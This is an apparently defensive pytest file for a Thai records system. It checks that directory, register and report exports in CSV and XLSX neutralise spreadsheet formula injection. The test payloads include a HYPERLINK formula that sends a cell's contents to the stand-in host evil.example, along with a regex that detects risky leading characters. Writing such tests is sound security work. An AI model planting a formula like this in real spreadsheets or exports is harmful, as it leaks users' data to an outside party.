"""Formula injection: no CSV or XLSX export hands a spreadsheet a cell that it would run.

Each export is read back the way a program would (``csv`` / openpyxl) with three payloads that a
clerk could type: ``=HYPERLINK(...)``, ``@SUM(1+1)`` and ``=1+1`` (and ``- 1+1``, which a
spreadsheet also runs). A CSV cell must carry the leading apostrophe; an XLSX cell must be text
(``data_type`` never ``"f"``) with Excel's quote prefix. The directory CSV still imports back to the
same data.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.core.management import call_command
from django.db import transaction
from django.test import Client
from openpyxl import load_workbook

from saraban.directory.csv_io import export_organisations, export_people, import_organisations, import_people
from saraban.directory.models import Organisation, RoleAssignment
from saraban.directory.services import assign_role, create_organisation, create_person, load_provinces
from saraban.registers.exports import export_register
from saraban.registers.models import BookKind
from saraban.registers.numbering import EntryFields
from saraban.registers.services import register_outgoing
from saraban.rollout import services as rollout
from saraban.rollout.report import Quarter, build_report, report_xlsx

BKK = ZoneInfo("Asia/Bangkok")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
PAYLOADS = [HYPERLINK, "@SUM(1+1)", "=1+1"]
DASH_FORMULA = "- 1+1"  # a spreadsheet reads this as =-1+1 too
_RISKY = re.compile(r"^[=+@\t\r]|^-(?!$|[0-9][0-9,]*(\.[0-9]+)?$)")


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_no_live_cell(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if _RISKY.match(cell)]
    assert live == [], f"cells a spreadsheet would run: {live}"


def _assert_no_formula(data: bytes) -> list[Any]:
    """Every cell of every sheet is a value; returns the cells that start like a formula."""
    book = load_workbook(io.BytesIO(data))
    starting_like_formula = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and _RISKY.match(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    starting_like_formula.append(cell)
    return starting_like_formula


# --- the directory ---------------------------------------------------------------------------------


class _Undo(Exception):
    pass


def _tree() -> list[tuple[Any, ...]]:
    return sorted(Organisation.objects.values_list(
        "identifier", "parent__identifier", "kind", "name_th", "name_en", "letter_code", "address", "province__code",
        "email", "phone", "category", "thai_digits",
    ))


def _roles() -> list[tuple[Any, ...]]:
    return sorted(RoleAssignment.objects.values_list(
        "person__username", "person__name_th", "person__name_en", "organisation__identifier", "role",
        "position_title", "valid_from", "valid_until",
    ))


def _hostile_directory() -> None:
    """Organisations and people whose typed fields are the payloads (and the edge cases)."""
    root = create_organisation(identifier="inj-root", kind="ministry", name_th=HYPERLINK, name_en="@SUM(1+1)",
                               address="=1+1\nบรรทัดสอง", phone="+66 2 283 4000")
    create_organisation(identifier="inj-unit", parent=root, kind="division", name_th="'=1+1",  # an own apostrophe
                        name_en=DASH_FORMULA, address="-", phone="-12")
    create_organisation(identifier="inj-plain", kind="division", name_th="'ร้านค้า' สาขา 1", name_en="-5 จุด")
    for n, payload in enumerate(PAYLOADS):
        person = create_person(username=f"inj{n}", name_th=payload, name_en=payload, password=None)
        assign_role(person, root, "officer", position_title=payload, valid_from=dt.date(2026, 10, 1))


@pytest.fixture
def _directory(db: None) -> None:
    load_provinces()
    _hostile_directory()


def _check_directory_csv(organisations: bytes, people: bytes) -> None:
    orgs = _csv(organisations)
    _assert_no_live_cell(orgs)
    by_id = {row[0]: dict(zip(orgs[0], row, strict=True)) for row in orgs[1:]}
    assert by_id["inj-root"]["name_th"] == "'" + HYPERLINK
    assert by_id["inj-root"]["name_en"] == "'@SUM(1+1)"
    assert by_id["inj-root"]["address"] == "'=1+1\\nบรรทัดสอง"
    assert by_id["inj-root"]["phone"] == "'+66 2 283 4000"
    assert by_id["inj-unit"]["name_th"] == "''=1+1"  # one more apostrophe, so the import can undo exactly
    assert by_id["inj-unit"]["name_en"] == "'" + DASH_FORMULA
    assert (by_id["inj-unit"]["address"], by_id["inj-unit"]["phone"]) == ("-", "-12")  # a dash, a number
    assert (by_id["inj-plain"]["name_th"], by_id["inj-plain"]["name_en"]) == ("'ร้านค้า' สาขา 1", "'-5 จุด")
    people_rows = _csv(people)
    _assert_no_live_cell(people_rows)
    assert [row[1:3] + row[6:7] for row in people_rows[1:]] == [["'" + p] * 3 for p in PAYLOADS]


@pytest.mark.django_db
def test_the_directory_csv_exports_neutralise_formulas(_directory: None) -> None:
    _check_directory_csv(export_organisations(), export_people())


@pytest.mark.django_db
def test_the_directory_web_exports_neutralise_formulas(_directory: None) -> None:
    admin = create_person(username="inj-admin", name_th="นายผู้ดูแล ระบบ", password=None)
    assign_role(admin, Organisation.objects.get(identifier="inj-plain"), "sys_admin")
    client = Client()
    client.force_login(admin)
    organisations = client.get("/directory/export/organisations.csv")
    people = client.get("/directory/export/people.csv")
    assert organisations.status_code == people.status_code == 200
    assert organisations["Content-Type"] == "text/csv; charset=utf-8"
    _check_directory_csv(organisations.content, _csv_without(people.content, "inj-admin"))  # the others only


def _csv_without(data: bytes, username: str) -> bytes:
    rows = [r for r in _csv(data) if r[0] != username]
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8-sig")


@pytest.mark.django_db
def test_the_directory_command_exports_neutralise_and_import_back(_provinces: None, tmp_path: Path) -> None:
    organisations, people = tmp_path / "organisations.csv", tmp_path / "people.csv"
    try:
        with transaction.atomic():
            _hostile_directory()
            call_command("directory", "export", "organisations", "-o", str(organisations), stdout=io.StringIO())
            call_command("directory", "export", "people", "-o", str(people), stdout=io.StringIO())
            before, roles = _tree(), _roles()
            raise _Undo
    except _Undo:
        pass
    _check_directory_csv(organisations.read_bytes(), people.read_bytes())
    assert Organisation.objects.count() == 0
    out = io.StringIO()
    call_command("directory", "import", "organisations", str(organisations), stdout=out)
    call_command("directory", "import", "people", str(people), stdout=out)
    assert out.getvalue().count("created 3, updated 0") == 2
    assert _tree() == before
    assert _roles() == roles


@pytest.mark.django_db
def test_an_exported_directory_imports_back_to_the_same_data(_provinces: None) -> None:
    try:
        with transaction.atomic():
            _hostile_directory()
            organisations, people = export_organisations(), export_people()
            before, roles = _tree(), _roles()
            raise _Undo
    except _Undo:
        pass
    assert Organisation.objects.count() == 0
    report = import_organisations(organisations)
    assert (report.problems, report.created) == ([], 3)
    assert _tree() == before
    assert Organisation.objects.get(identifier="inj-root").name_th == HYPERLINK  # the apostrophe is gone
    assert Organisation.objects.get(identifier="inj-unit").name_th == "'=1+1"  # the user's own one stays
    assert Organisation.objects.get(identifier="inj-plain").name_th == "'ร้านค้า' สาขา 1"
    report = import_people(people)
    assert (report.problems, report.created) == ([], 3)
    assert _roles() == roles
    assert (export_organisations(), export_people()) == (organisations, people)


@pytest.fixture
def _provinces(db: None) -> None:
    load_provinces()


# --- the programme report ------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_programme_report_xlsx_keeps_a_purpose_as_text(db: None) -> None:
    rollout.ensure_defaults()
    org = create_organisation(identifier="inj-sao", kind="sao", name_th="=1+1", category="lao")
    for n, payload in enumerate([*PAYLOADS, DASH_FORMULA]):
        rollout.draft_fund_application(org, purpose=payload, amount=1000 + n)
    data = report_xlsx(build_report(Quarter(2570, 1), today=dt.date(2026, 11, 15)))
    flagged = _assert_no_formula(data)
    assert {c.value for c in flagged} >= {*PAYLOADS, DASH_FORMULA}
    funds = load_workbook(io.BytesIO(data))["กองทุนดีอี"]
    purposes = {funds.cell(row, 2).value: funds.cell(row, 3) for row in range(2, 6)}
    assert set(purposes) == {*PAYLOADS, DASH_FORMULA}
    assert {(c.value, c.data_type) for c in purposes.values()} == {(1000.0, "n"), (1001.0, "n"), (1002.0, "n"),
                                                                    (1003.0, "n")}  # amounts stay numbers
    assert {funds.cell(row, 1).value for row in range(2, 6)} == {"=1+1"}

    member = create_person(username="inj-partner", name_th="นางภาคี ร่วมมือ", password=None)
    rollout.add_member(member, "partner")
    client = Client()
    client.force_login(member)
    response = client.get("/programme/report.xlsx?quarter=2570-1")
    assert response.status_code == 200
    assert {c.value for c in _assert_no_formula(response.content)} >= {*PAYLOADS, DASH_FORMULA}


# --- registers -------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_register_exports_neutralise_every_typed_cell(db: None) -> None:
    org = create_organisation(identifier="inj-book", kind="department", name_th="สำนักงานทดสอบ", letter_code="นร 0105")
    payloads = [*PAYLOADS, DASH_FORMULA]
    for hour, payload in enumerate(payloads, start=9):
        at = dt.datetime(2026, 11, 20, hour, tzinfo=BKK)
        register_outgoing(org.pk, BookKind.SEND, letter_code=org.letter_code, at=at, fields=EntryFields(
            letter_date=at.date(), sender=payload, recipient=payload, subject=payload, action=payload,
        ))
    day = dt.date(2026, 11, 20)
    rows = _csv(export_register(org, BookKind.SEND, day, day, "csv"))
    _assert_no_live_cell(rows)
    assert [row[4:8] for row in rows[1:]] == [["'" + p] * 4 for p in payloads]

    data = export_register(org, BookKind.SEND, day, day, "xlsx")
    flagged = _assert_no_formula(data)
    assert sorted(c.value for c in flagged) == sorted(p for p in payloads for _ in range(4))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [sheet.cell(row, 7).value for row in range(5, 9)] == payloads  # the text itself, not "'=..."
    assert [sheet.cell(row, 2).data_type for row in range(5, 9)] == ["n"] * 4  # the number stays a number
